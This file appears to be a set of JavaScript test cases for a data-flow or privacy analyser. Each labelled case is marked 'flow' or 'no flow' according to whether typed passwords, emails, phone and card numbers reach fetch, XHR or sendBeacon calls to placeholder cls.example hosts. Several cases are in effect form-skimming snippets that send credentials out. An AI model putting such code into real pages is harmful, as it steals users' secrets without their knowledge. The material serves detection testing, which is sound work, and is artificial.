//# field-in-constructor
// flow: email > ctor.cls.example via fetch
class Lead {
  constructor(email) { this.email = email; }
  send() { return fetch('https://ctor.cls.example/l', { method: 'POST', body: JSON.stringify(this) }); }
}
new Lead(document.querySelector('input[type=email]').value).send();

//# other-instance
// no flow
// why: the instance that is sent was made with a constant
class Note {
  constructor(t) { this.t = t; }
  send() { fetch('https://other.cls.example/n', { method: 'POST', body: this.t }); }
}
const draft = new Note(document.querySelector('textarea[name=message]').value);
const hello = new Note('hello');
hello.send();
document.title = String(draft.t.length);

//# prototype-method
// flow: identifier > proto.cls.example via xhr
function Client(url) { this.url = url; this.id = localStorage.getItem('client'); }
Client.prototype.hit = function (path) {
  var x = new XMLHttpRequest();
  x.open('GET', this.url + path + '?id=' + this.id);
  x.send();
};
new Client('https://proto.cls.example').hit('/h');

//# inherited-override
// no flow
// destination: https://sub.cls.example/s
// no destination: super.cls.example
// why: the subclass replaces the method and does not call super
class Base { emit(v) { fetch('https://super.cls.example/s', { method: 'POST', body: v }); } }
class Quiet extends Base { emit() { fetch('https://sub.cls.example/s', { method: 'POST', body: 'x' }); } }
new Quiet().emit(document.querySelector('input[type=password]').value);

//# super-call
// flow: password > sup.cls.example via fetch
class A { emit(v) { return fetch(this.url, { method: 'POST', body: v }); } }
class B extends A {
  get url() { return 'https://sup.cls.example/s'; }
  emit(v) { return super.emit(JSON.stringify({ v })); }
}
new B().emit(document.querySelector('input[type=password]').value);

//# getter-reads-field
// flow: phone > get.cls.example via beacon
const contact = { get tel() { return document.querySelector('input[type=tel]').value; }, kind: 'lead' };
navigator.sendBeacon('https://get.cls.example/g', contact.tel);

//# getter-masks
// no flow
// why: the getter tells only whether there is a number
class Contact {
  #tel = document.querySelector('input[type=tel]').value;
  get tel() { return Boolean(this.#tel); }
}
navigator.sendBeacon('https://mask.cls.example/g', String(new Contact().tel));

//# setter-sends
// flow: username > set.cls.example via fetch
const model = {
  set user(v) { fetch('https://set.cls.example/u', { method: 'POST', body: v }); },
};
model.user = document.querySelector('input[name=username]').value;

//# setter-ignores
// no flow
// why: assigning calls the setter, which sends a constant
const sink = { set user(v) { this.n = (this.n || 0) + 1; fetch('https://ign.cls.example/u'); } };
sink.user = document.querySelector('input[name=username]').value;

//# static-state
// flow: search > static.cls.example via fetch
class Queue {
  static items = [];
  static add(i) { Queue.items.push(i); return Queue; }
  static flush() { fetch('https://static.cls.example/f', { method: 'POST', body: JSON.stringify(Queue.items) }); }
}
Queue.add(document.querySelector('input[type=search]').value).flush();

//# private-method
// flow: card > priv.cls.example via fetch
class Pay {
  #post(b) { return fetch('https://priv.cls.example/p', { method: 'POST', body: b }); }
  pay() { return this.#post(document.querySelector('input[autocomplete=cc-number]').value); }
}
document.querySelector('#pay').onclick = () => new Pay().pay();

//# mixin
// flow: email > mix.cls.example via fetch
const Sends = (C) => class extends C { push(v) { fetch('https://mix.cls.example/m', { method: 'POST', body: v }); } };
class Form { value() { return document.querySelector('input[type=email]').value; } }
class Signup extends Sends(Form) { go() { this.push(this.value()); } }
new Signup().go();

//# bind-partial
// flow: message > bind.cls.example via fetch
function send(url, opt, body) { return fetch(url, { method: opt, body: body }); }
var post = send.bind(null, 'https://bind.cls.example/b', 'POST');
post(document.querySelector('textarea[name=message]').value);

//# call-other-this
// no flow
// why: the method is called on an object with a constant
(function () {
  var form = { v: document.querySelector('input[type=password]').value, send: function () { fetch('https://call.cls.example/c?v=' + this.v); } };
  form.send.call({ v: 'none' });
})();

//# apply-arguments
// flow: password > apply.cls.example via fetch
function go() { return fetch.apply(window, arguments); }
go('https://apply.cls.example/a', { method: 'POST', body: document.querySelector('input[type=password]').value });

//# to-json-hides
// no flow
// why: toJSON decides what stringify sees
class User {
  constructor() { this.email = document.querySelector('input[type=email]').value; this.plan = 'free'; }
  toJSON() { return { plan: this.plan }; }
}
fetch('https://tojson.cls.example/u', { method: 'POST', body: JSON.stringify(new User()) });

//# private-not-serialised
// no flow
// why: a private field is no property, stringify leaves it out
class Session {
  #pw = document.querySelector('input[type=password]').value;
  step = 2;
  ok() { return this.#pw.length > 7; }
}
fetch('https://privjson.cls.example/s', { method: 'POST', body: JSON.stringify(new Session()) });

//# static-shadowed
// no flow
// why: the method sends the static field, the typed text is in the one of the instance
class Topic {
  static text = 'general';
  constructor(t) { this.text = t; }
  send() { fetch('https://stat.cls.example/t', { method: 'POST', body: Topic.text }); }
}
new Topic(document.querySelector('textarea[name=message]').value).send();

//# lost-this
// no flow
// why: the detached method has undefined as this and throws before it sends
class Lost {
  v = document.querySelector('input[type=email]').value;
  send() { fetch('https://lost.cls.example/t?v=' + this.v); }
}
const { send } = new Lost();
try { send(); } catch (e) { console.warn(e.name); }
